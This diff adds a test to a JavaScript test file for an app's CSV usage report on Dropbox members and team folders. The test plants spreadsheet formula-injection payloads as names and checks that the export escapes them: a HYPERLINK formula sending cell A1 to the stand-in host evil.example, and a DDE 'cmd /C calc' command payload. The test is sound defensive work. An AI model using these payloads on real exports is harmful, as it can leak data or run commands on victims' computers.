@@ -230,6 +230,30 @@ t.test('usage report as CSV', async (t) => {
   t.match(lines[3], /^Gone G,gone@team\.test,member,archived,archived,/);
 });
 
+t.test('CSV injection: Dropbox member and team folder names that start a formula come out of the usage report as text', async (t) => {
+  const emu = await startDropbox(t);
+  emu.state.addMember({ email: 'admin@team.test', givenName: '=HYPERLINK("https://evil.example/?"&A1', surname: '"x")', admin: true });
+  emu.state.addMember({ email: 'plus@team.test', givenName: '+SUM(1', surname: '2)' });
+  emu.state.addTeamFolder('@cmd|\' /C calc\'!A0');
+  emu.state.addTeamFolder('-1+2');
+  emu.state.addTeamFolder('Plain - fine = fine');
+  const api = await startTestApp(t, { config: dropboxConfig(emu) });
+  const { key, accountId } = await api.signUp();
+  const taskId = await connectedTask(api, emu, key, { auto_activate: false });
+  await discoveryJob(api.deps, { accountId, taskId });
+
+  const res = await fetch(`${api.url}/v1/entities`, { headers: { authorization: `Bearer ${key}`, accept: 'text/csv' } });
+  t.equal(res.status, 200);
+  const names = (await res.text()).trim().split('\n').slice(1).map((line) => line.slice(0, line.search(/,(?:[a-z0-9.@-]+@team\.test)?,(?:member|team_folder),/)));
+  t.same(names.sort(), [
+    `"'=HYPERLINK(""https://evil.example/?""&A1 ""x"")"`,
+    `'+SUM(1 2)`,
+    `'-1+2`,
+    `'@cmd|' /C calc'!A0`,
+    'Plain - fine = fine',
+  ].sort(), 'each formula-like name starts with an apostrophe; a name with = or - inside is untouched');
+});
+
 t.test('entities and tags of another account are invisible', async (t) => {
   const emu = await startDropbox(t);
   emu.state.addMember({ email: 'admin@team.test', givenName: 'Ada', surname: 'Admin', admin: true });
